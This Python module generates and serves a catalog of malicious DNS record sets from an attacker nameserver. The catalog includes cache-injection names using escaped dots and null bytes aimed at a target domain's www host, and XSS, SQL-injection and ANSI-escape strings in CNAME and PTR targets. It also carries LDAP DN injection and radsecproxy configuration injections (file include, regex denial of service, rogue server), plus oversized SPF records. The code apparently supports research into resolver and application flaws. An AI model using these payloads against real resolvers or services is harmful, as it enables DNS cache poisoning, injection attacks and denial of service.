"""Catalog of malicious record sets and a master-file emitter/parser.

Every payload lives in a zone served by the attacker's nameserver. Queries
may carry up to three random leading labels; such a prefix is carried into
every name of the synthesized answer chain so repeated probes never hit an
earlier probe's cache entries.
"""

from __future__ import annotations

import enum
import ipaddress
import json
from dataclasses import dataclass, field

from .errors import DNSError, LabelTooLong, NameTooLong, UnknownPayload, ZoneSyntaxError
from .wire import (
    NAPTR,
    SOA,
    SRV,
    TXT,
    A,
    NameRdata,
    Opaque,
    RawName,
    RClass,
    ResourceRecord,
    RType,
    escape_label,
    from_presentation,
    naive_text,
    type_from_name,
    type_name,
    unescape_text,
)

MAX_PREFIX_LABELS = 3
DEFAULT_TTL = 60
BENIGN_IP = "192.0.2.1"
NS_IP = "192.0.2.53"


class Effect(enum.Enum):
    TRANSPARENT = "transparent"
    CACHE_INJECT = "cache-inject"
    APP_INJECT = "app-inject"
    OVERSIZE = "oversize"


@dataclass(frozen=True)
class PayloadEntry:
    id: str
    records: tuple[ResourceRecord, ...]
    trigger_qname: RawName
    trigger_qtype: int
    expected_effect: Effect
    baseline: bool = False
    emit_only: bool = False
    victim: RawName | None = None
    notes: dict = field(default_factory=dict, compare=False, hash=False)

    @property
    def family(self) -> str:
        return self.id.split("_")[0] if self.id.startswith(("inject", "radsec")) else self.id

    @property
    def is_injection(self) -> bool:
        return self.expected_effect is Effect.CACHE_INJECT


@dataclass(frozen=True)
class ZoneFile:
    origin: RawName
    entries: tuple[PayloadEntry, ...]
    default_ttl: int = DEFAULT_TTL
    boilerplate: tuple[ResourceRecord, ...] = ()
    target_domain: RawName | None = None
    inject_ip: str | None = None

    def __post_init__(self):
        index: dict[RawName, list[ResourceRecord]] = {}
        for rr in self.records():
            bucket = index.setdefault(rr.owner.lower(), [])
            if rr not in bucket:
                bucket.append(rr)
        object.__setattr__(self, "_index", index)
        object.__setattr__(self, "_by_id", {e.id: e for e in self.entries})
        apexes = [self.origin]
        for rr in self.records():
            if not rr.owner.is_subdomain_of(self.origin) and not any(rr.owner.equals_ci(x) for x in apexes):
                apexes.append(rr.owner)
        object.__setattr__(self, "_apexes", tuple(apexes))

    def entry(self, payload_id: str) -> PayloadEntry:
        try:
            return self._by_id[payload_id]
        except KeyError:
            raise UnknownPayload(payload_id) from None

    @property
    def ids(self) -> list[str]:
        return [e.id for e in self.entries]

    def records(self):
        yield from self.boilerplate
        for e in self.entries:
            yield from e.records

    def owned(self, name: RawName) -> list[ResourceRecord]:
        return list(self._index.get(name.lower(), ()))

    def apexes(self) -> list[RawName]:
        """Names this nameserver answers for: the origin plus out-of-zone owners."""
        return list(self._apexes)

    def is_authoritative_for(self, name: RawName) -> bool:
        return any(name.is_subdomain_of(apex) for apex in self._apexes)


# ------------------------------------------------------------------ catalog


def _n(*labels) -> RawName:
    return RawName.of(*labels)


def _under(domain: RawName, *labels) -> RawName:
    return domain.prepend(*labels)


def _a(owner: RawName, ip: str, ttl: int) -> ResourceRecord:
    return ResourceRecord(owner, RType.A, A(ipaddress.IPv4Address(ip)), ttl)


def _cname(owner: RawName, target: RawName, ttl: int) -> ResourceRecord:
    return ResourceRecord(owner, RType.CNAME, NameRdata(target), ttl)


def printf_unescape(data: bytes) -> bytes:
    """Backslash and percent processing as done by the shell's printf."""
    table = {ord("n"): b"\n", ord("t"): b"\t", ord("\\"): b"\\", ord("r"): b"\r"}
    out = bytearray()
    i = 0
    while i < len(data):
        c = data[i]
        if c == 0x5C and i + 1 < len(data) and data[i + 1] in table:
            out += table[data[i + 1]]
            i += 2
        elif c == 0x25 and i + 1 < len(data) and data[i + 1] == 0x25:
            out.append(0x25)
            i += 2
        else:
            out.append(c)
            i += 1
    return bytes(out)


def _shell_name(dig_text: str) -> RawName:
    """Name whose labels already hold the bytes printf would produce."""
    labels = [printf_unescape(x) for x in unescape_text(dig_text)]
    return RawName(tuple(labels))


# dig-escaped record data of the radsecproxy exploits
RADSEC_DIG = {
    "radsec_1": (RType.NAPTR, r"\@6.6.6.6."),
    "radsec_2": (RType.NAPTR, r"-f/some/file."),
    "radsec_3": (RType.SRV, r"asd\\n\\tinclude\\t/dev/zero\\n."),
    "radsec_4": (
        RType.SRV,
        r"as.d\\n\\tmatchcertificateattribute\\tCN:/\(.*+++++++++++++++++++\(\\\\w+\)\)"
        r"/im\\n\\ttype\\ttls\\n}\\n%%p.",
    ),
    "radsec_5": (RType.SRV, r"6.6.6.6\\n\\ttype\\tTCP\\n\\tsecret\\tsomething\\n}\\n%%p."),
}

EDUROAM_DIG = r"6.6.6.6\\n\\ttype\\tTCP\\n\\tsecret\\tsomething\\n}\\n%"

XSS_LABEL = b"<img/src=''/onerror='alert&#x28&#x22xss&#x22&#x29'>"
SQL_LABEL = b"'OR''=''--"
ANSI_LABEL = b"\x1b[31;1;4mHello\x1b[0m"

SPECIAL_CNAMES = (
    ("slash", "cnameslash", b"t/t"),
    ("at", "cnameat", b"t@t"),
    ("xss", "cnamexss", XSS_LABEL),
    ("sql", "cnamesql", SQL_LABEL),
    ("ansi", "cnameansi", ANSI_LABEL),
)

PTR_TARGETS = (
    b"works",
    b"te/st",
    b"te@st",
    b"t\x00t",
    b"t.t",
    XSS_LABEL,
    SQL_LABEL,
    ANSI_LABEL,
)


def injectdot_name(target: RawName, host: bytes = b"www") -> RawName:
    """``www\\.target.com.``: host and first target label fused into one label."""
    return RawName((host + b"." + target.labels[0],) + target.labels[1:])


def injectzero_name(target: RawName, attacker: RawName, host: bytes = b"www") -> RawName:
    """``www.target.com\\000.attacker.com.``"""
    head = (host,) + target.labels[:-1] + (target.labels[-1] + b"\x00",)
    return RawName(head + attacker.labels)


def build_payload_zone(
    attacker_domain: RawName | str,
    target_domain: RawName | str,
    inject_ip: str = "6.6.6.6",
    benign_ip: str = BENIGN_IP,
    ttl: int = DEFAULT_TTL,
) -> ZoneFile:
    """Materialize the whole catalog for one attacker/target pair.

    Raises NameTooLong if a derived name (including the LDAP DN built from
    the attacker domain) no longer fits.
    """
    try:
        return _build(attacker_domain, target_domain, inject_ip, benign_ip, ttl)
    except LabelTooLong as exc:
        raise NameTooLong(f"derived name too long: {exc}") from exc


def _build(attacker_domain, target_domain, inject_ip, benign_ip, ttl) -> ZoneFile:
    if isinstance(attacker_domain, str):
        attacker_domain = from_presentation(attacker_domain)
    if isinstance(target_domain, str):
        target_domain = from_presentation(target_domain)
    if attacker_domain.equals_ci(target_domain):
        raise ValueError("attacker and target domain must differ")
    if not target_domain.labels:
        raise ValueError("target domain cannot be the root")
    atk = attacker_domain
    ipaddress.IPv4Address(inject_ip)
    entries = []

    def add(pid, records, trigger, qtype, effect, **kw):
        entries.append(PayloadEntry(pid, tuple(records), trigger, int(qtype), effect, **kw))

    # baselines, one per record type probed before anything else
    abase = _under(atk, "abase")
    add("base_a", [_a(abase, benign_ip, ttl)], abase, RType.A, Effect.TRANSPARENT, baseline=True)
    works = _under(atk, "works", "cnameslash")
    base = _under(atk, "cnamebase")
    add("base", [_cname(base, works, ttl), _a(works, benign_ip, ttl)], base, RType.A,
        Effect.TRANSPARENT, baseline=True)
    srvbase = _under(atk, "_srvbase", "_tcp")
    add("base_srv", [ResourceRecord(srvbase, RType.SRV, SRV(0, 0, 443, _under(atk, "works", "srvbase")), ttl)],
        srvbase, RType.SRV, Effect.TRANSPARENT, baseline=True)
    txtbase = _under(atk, "txtbase")
    add("base_txt", [ResourceRecord(txtbase, RType.TXT, TXT((b"works",)), ttl)], txtbase, RType.TXT,
        Effect.TRANSPARENT, baseline=True)

    for pid, owner_label, bad in SPECIAL_CNAMES:
        owner = _under(atk, owner_label)
        tgt = owner.prepend(bad)
        add(pid, [_cname(owner, tgt, ttl), _a(tgt, benign_ip, ttl)], owner, RType.A, Effect.APP_INJECT)

    victim = target_domain.prepend("www")
    dot = injectdot_name(target_domain)
    trig = _under(atk, "injectdot")
    add("injectdot_cname", [_cname(trig, dot, ttl), _a(dot, inject_ip, ttl)], trig, RType.A,
        Effect.CACHE_INJECT, victim=victim)
    add("injectdot_direct", [_a(dot, inject_ip, ttl)], dot, RType.A, Effect.CACHE_INJECT, victim=victim)
    zero = injectzero_name(target_domain, atk)
    trig = _under(atk, "injectzero")
    add("injectzero_cname", [_cname(trig, zero, ttl), _a(zero, inject_ip, ttl)], trig, RType.A,
        Effect.CACHE_INJECT, victim=victim)
    add("injectzero_direct", [_a(zero, inject_ip, ttl)], zero, RType.A, Effect.CACHE_INJECT, victim=victim)

    ldap = _under(atk, "_ldap", "_tcp")
    dn = b"/" + b",".join(b"dc=" + x for x in atk.labels)
    add("ldap_srv", [ResourceRecord(ldap, RType.SRV, SRV(0, 0, 389, _n(dn)), ttl)], ldap, RType.SRV,
        Effect.APP_INJECT)
    radsec = _under(atk, "_radsec", "_tcp")
    add("eduroam_srv", [ResourceRecord(radsec, RType.SRV, SRV(0, 0, 2083, _shell_name(EDUROAM_DIG)), ttl)],
        radsec, RType.SRV, Effect.APP_INJECT,
        notes={"dig_escaped": EDUROAM_DIG, "variant": "shell-unescaped"})

    spf_text = b"v=spf1 exp=" + naive_text(_under(atk, "exp")).rstrip(".").encode("latin-1")
    exp = _under(atk, "exp")
    add("spf_exp", [ResourceRecord(atk, RType.TXT, TXT((spf_text,)), ttl),
                    ResourceRecord(exp, RType.TXT, TXT.chunked(b"A" * 510), ttl)],
        exp, RType.TXT, Effect.OVERSIZE)

    arpa = _n("in-addr", "arpa")
    test = _n("test")
    for i, label in enumerate(PTR_TARGETS, start=1):
        octet = str(i).encode()
        owner = arpa.prepend(octet, octet, octet, octet)
        add(f"ptr_{i}", [ResourceRecord(owner, RType.PTR, NameRdata(test.prepend(label)), ttl)],
            owner, RType.PTR, Effect.TRANSPARENT if i == 1 else Effect.APP_INJECT, baseline=i == 1)

    for pid, (rtype, dig) in RADSEC_DIG.items():
        realm = _under(atk, pid.replace("_", ""))
        name = from_presentation(dig)
        shell = printf_unescape(naive_text(name).encode("latin-1"))
        notes = {"dig_escaped": dig, "variant": "dig-decoded", "shell_unescaped": shell.hex()}
        if rtype == RType.NAPTR:
            rd = NAPTR(100, 10, b"s", b"x-eduroam:radius.tls", b"", name)
            add(pid, [ResourceRecord(realm, RType.NAPTR, rd, ttl)], realm, RType.NAPTR, Effect.APP_INJECT,
                emit_only=True, notes=notes)
        else:
            owner = realm.prepend("_radsec", "_tcp")
            add(pid, [ResourceRecord(owner, RType.SRV, SRV(0, 0, 2083, name), ttl)], owner, RType.SRV,
                Effect.APP_INJECT, emit_only=True, notes=notes)

    ns = _under(atk, "ns1")
    boilerplate = (
        ResourceRecord(atk, RType.SOA, SOA(ns, _under(atk, "hostmaster")), ttl),
        ResourceRecord(atk, RType.NS, NameRdata(ns), ttl),
        _a(ns, NS_IP, ttl),
    )
    return ZoneFile(atk, tuple(entries), ttl, boilerplate, target_domain, inject_ip)


def catalog_json(zone: ZoneFile) -> list[dict]:
    return [
        {
            "id": e.id,
            "trigger_qname": str(e.trigger_qname),
            "qtype": type_name(e.trigger_qtype),
            "expected_effect": e.expected_effect.value,
            "baseline": e.baseline,
            "emit_only": e.emit_only,
        }
        for e in zone.entries
    ]


# ------------------------------------------------------------------- lookup


def _chase(zone: ZoneFile, name: RawName, qtype: int) -> list[ResourceRecord]:
    out = []
    seen = set()
    want = qtype
    while name.lower() not in seen:
        seen.add(name.lower())
        rrs = zone.owned(name)
        cnames = [r for r in rrs if r.rtype == RType.CNAME]
        if want == RType.CNAME and cnames:
            out += cnames
            name = cnames[0].rdata.target
            want = RType.A
            continue
        direct = [r for r in rrs if r.rtype == want or want == RType.ANY]
        if direct:
            out += direct
            break
        if cnames:
            out += cnames
            name = cnames[0].rdata.target
            continue
        break
    return out


def _with_prefix(rr: ResourceRecord, prefix: tuple[bytes, ...]) -> ResourceRecord:
    owner = RawName(prefix + rr.owner.labels)
    rd = rr.rdata
    if rr.rtype == RType.CNAME:
        rd = NameRdata(RawName(prefix + rd.target.labels))
    return ResourceRecord(owner, rr.rtype, rd, rr.ttl, rr.rclass)


def lookup_payload(zone: ZoneFile, qname: RawName, qtype: int) -> list[ResourceRecord]:
    """Authoritative answer records for ``qname``; empty means NXDOMAIN/NODATA.

    Exact owner matches win; otherwise up to three leading labels are
    stripped and the matched chain is rewritten under that prefix.
    """
    for k in range(0, MAX_PREFIX_LABELS + 1):
        if k > len(qname.labels):
            break
        base = RawName(qname.labels[k:])
        if k and base.equals_ci(zone.origin):
            break
        if not zone.owned(base):
            continue
        records = _chase(zone, base, int(qtype))
        if not k:
            return records
        try:
            return [_with_prefix(rr, qname.labels[:k]) for rr in records]
        except DNSError:
            return []
    return []


# ---------------------------------------------------------------- zone text


def _name_text(name: RawName) -> str:
    if not name.labels:
        return "."
    return ".".join(escape_label(x, zone_safe=True) for x in name.labels) + "."


def _quote(data: bytes) -> str:
    out = []
    for b in data:
        if b in (0x22, 0x5C):
            out.append("\\" + chr(b))
        elif 0x20 <= b <= 0x7E:
            out.append(chr(b))
        else:
            out.append(f"\\{b:03d}")
    return '"' + "".join(out) + '"'


def rdata_text(rr: ResourceRecord) -> str:
    rd = rr.rdata
    if isinstance(rd, Opaque):
        return f"\\# {len(rd.data)} {rd.data.hex()}" if rd.data else "\\# 0"
    if isinstance(rd, A):
        return str(rd.address)
    if isinstance(rd, NameRdata):
        return _name_text(rd.target)
    if isinstance(rd, SOA):
        return (f"{_name_text(rd.mname)} {_name_text(rd.rname)} "
                f"{rd.serial} {rd.refresh} {rd.retry} {rd.expire} {rd.minimum}")
    if isinstance(rd, SRV):
        return f"{rd.priority} {rd.weight} {rd.port} {_name_text(rd.target)}"
    if isinstance(rd, NAPTR):
        return (f"{rd.order} {rd.preference} {_quote(rd.flags)} {_quote(rd.service)} "
                f"{_quote(rd.regexp)} {_name_text(rd.replacement)}")
    if isinstance(rd, TXT):
        return " ".join(_quote(s) for s in rd.strings)
    raise TypeError(f"no text form for {rd!r}")


def record_line(rr: ResourceRecord) -> str:
    rclass = "IN" if rr.rclass == RClass.IN else ("CH" if rr.rclass == RClass.CH else f"CLASS{rr.rclass}")
    rtype = type_name(rr.rtype)
    if isinstance(rr.rdata, Opaque) and rr.rtype in RType._value2member_map_:
        rtype = f"TYPE{rr.rtype}"
    return f"{_name_text(rr.owner)} {rr.ttl} {rclass} {rtype} {rdata_text(rr)}"


def emit_zonefile(zone: ZoneFile) -> str:
    header = {
        "origin": _name_text(zone.origin),
        "target_domain": _name_text(zone.target_domain) if zone.target_domain else None,
        "inject_ip": zone.inject_ip,
    }
    lines = [f"; zone {json.dumps(header, sort_keys=True)}", f"$TTL {zone.default_ttl}"]
    lines += [record_line(rr) for rr in zone.boilerplate]
    for e in zone.entries:
        meta = {
            "id": e.id,
            "trigger": _name_text(e.trigger_qname),
            "qtype": type_name(e.trigger_qtype),
            "effect": e.expected_effect.value,
            "baseline": e.baseline,
            "emit_only": e.emit_only,
            "victim": _name_text(e.victim) if e.victim else None,
            "notes": e.notes,
        }
        lines.append(f"; payload {json.dumps(meta, sort_keys=True)}")
        lines += [record_line(rr) for rr in e.records]
    return "\n".join(lines) + "\n"


def _tokenize(line: str) -> list[tuple[str, bool]]:
    toks = []
    i = 0
    n = len(line)
    while i < n:
        c = line[i]
        if c in " \t\r\n()":
            i += 1
            continue
        if c == ";":
            break
        if c == '"':
            j = i + 1
            while j < n and line[j] != '"':
                j += 2 if line[j] == "\\" else 1
            if j >= n:
                raise ZoneSyntaxError(f"unterminated string in {line!r}")
            toks.append((line[i + 1:j], True))
            i = j + 1
            continue
        j = i
        while j < n and line[j] not in ' \t\r\n;()"':
            j += 2 if line[j] == "\\" else 1
        toks.append((line[i:j], False))
        i = j
    return toks


def _is_absolute(tok: str) -> bool:
    if not tok.endswith("."):
        return False
    k = 0
    i = len(tok) - 2
    while i >= 0 and tok[i] == "\\":
        k += 1
        i -= 1
    return k % 2 == 0


def _name(tok: str, origin: RawName | None) -> RawName:
    if tok == "@":
        if origin is None:
            raise ZoneSyntaxError("@ used without an origin")
        return origin
    if _is_absolute(tok):
        return from_presentation(tok)
    rel = from_presentation(tok)
    if origin is None:
        raise ZoneSyntaxError(f"relative name {tok!r} without an origin")
    return RawName(rel.labels + origin.labels)


def _string(tok: tuple[str, bool]) -> bytes:
    text, _ = tok
    return unescape_text(text, split_dots=False)[0] if text else b""


def _parse_rdata(rtype: int, toks: list[tuple[str, bool]], origin):
    words = [t for t, _ in toks]
    try:
        if words and words[0] == "\\#":
            length = int(words[1])
            data = bytes.fromhex("".join(words[2:]))
            if len(data) != length:
                raise ZoneSyntaxError("generic rdata length mismatch")
            return Opaque(data)
        if rtype == RType.A:
            return A(ipaddress.IPv4Address(words[0]))
        if rtype in (RType.CNAME, RType.PTR, RType.NS):
            return NameRdata(_name(words[0], origin))
        if rtype == RType.SOA:
            return SOA(_name(words[0], origin), _name(words[1], origin), *map(int, words[2:7]))
        if rtype == RType.SRV:
            return SRV(int(words[0]), int(words[1]), int(words[2]), _name(words[3], origin))
        if rtype == RType.NAPTR:
            return NAPTR(int(words[0]), int(words[1]), _string(toks[2]), _string(toks[3]),
                         _string(toks[4]), _name(words[5], origin))
        if rtype == RType.TXT:
            return TXT(tuple(_string(t) for t in toks))
    except (IndexError, ValueError) as exc:
        raise ZoneSyntaxError(f"bad rdata {' '.join(words)!r}: {exc}") from exc
    raise ZoneSyntaxError(f"type {type_name(rtype)} needs generic \\# rdata")


_CLASSES = {"IN": RClass.IN, "CH": RClass.CH, "ANY": RClass.ANY}


def parse_zonefile(text: str, origin: RawName | None = None) -> ZoneFile:
    """Parse master-file text; ``; payload`` comments regroup catalog entries."""
    ttl = DEFAULT_TTL
    header = {}
    boilerplate: list[ResourceRecord] = []
    groups: list[tuple[dict, list[ResourceRecord]]] = []
    last_owner = None
    for raw in text.splitlines():
        stripped = raw.strip()
        if stripped.startswith("; zone "):
            header = json.loads(stripped[len("; zone "):])
            if origin is None and header.get("origin"):
                origin = from_presentation(header["origin"])
            continue
        if stripped.startswith("; payload "):
            groups.append((json.loads(stripped[len("; payload "):]), []))
            continue
        toks = _tokenize(raw)
        if not toks:
            continue
        first = toks[0][0]
        if first == "$ORIGIN":
            origin = from_presentation(toks[1][0])
            continue
        if first == "$TTL":
            ttl = int(toks[1][0])
            continue
        if raw[:1] in " \t":
            if last_owner is None:
                raise ZoneSyntaxError(f"continuation line without owner: {raw!r}")
            owner = last_owner
            rest = toks
        else:
            owner = _name(first, origin)
            rest = toks[1:]
        rttl = ttl
        rclass = RClass.IN
        while rest and not rest[0][1]:
            word = rest[0][0].upper()
            if word.isdigit():
                rttl = int(word)
            elif word in _CLASSES:
                rclass = _CLASSES[word]
            else:
                break
            rest = rest[1:]
        if not rest:
            raise ZoneSyntaxError(f"missing type in {raw!r}")
        try:
            rtype = type_from_name(rest[0][0])
        except ValueError as exc:
            raise ZoneSyntaxError(str(exc)) from exc
        rr = ResourceRecord(owner, rtype, _parse_rdata(rtype, rest[1:], origin), rttl, rclass)
        last_owner = owner
        (groups[-1][1] if groups else boilerplate).append(rr)
    if origin is None:
        soa = [rr for rr in boilerplate if rr.rtype == RType.SOA]
        if not soa:
            raise ZoneSyntaxError("cannot determine zone origin")
        origin = soa[0].owner
    entries = []
    for meta, records in groups:
        entries.append(
            PayloadEntry(
                meta["id"],
                tuple(records),
                from_presentation(meta["trigger"]),
                type_from_name(meta["qtype"]),
                Effect(meta["effect"]),
                baseline=meta.get("baseline", False),
                emit_only=meta.get("emit_only", False),
                victim=from_presentation(meta["victim"]) if meta.get("victim") else None,
                notes=meta.get("notes") or {},
            )
        )
    target = header.get("target_domain")
    return ZoneFile(
        origin,
        tuple(entries),
        ttl,
        tuple(boilerplate),
        from_presentation(target) if target else None,
        header.get("inject_ip"),
    )
